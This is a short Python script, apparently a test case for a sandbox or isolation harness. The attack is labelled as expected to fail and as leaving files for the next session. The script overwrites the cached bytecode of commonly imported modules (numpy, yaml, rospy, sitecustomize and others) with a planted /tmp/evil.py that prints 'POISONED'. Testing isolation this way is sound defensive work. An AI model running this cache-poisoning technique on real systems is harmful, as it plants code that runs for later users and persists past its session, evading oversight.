#!/usr/bin/env python3
# expected: failed
# exercise: stop_at_x
# kind: leaves files for the next one
# at none: open
"""Puts another program into the byte code of the modules that everybody imports."""
import importlib.util
import py_compile
import sys

with open('/tmp/evil.py', 'w') as file:
    file.write('print("POISONED")\n')
for name in ('rospy', 'geometry_msgs.msg', 'turtlesim.msg', 'numpy', 'yaml', 'sitecustomize'):
    spec = importlib.util.find_spec(name)
    if spec and spec.cached:
        try:
            py_compile.compile('/tmp/evil.py', cfile=spec.cached, doraise=True)
            print('poisoned', spec.cached, flush=True)
        except OSError:
            continue
sys.exit(0)
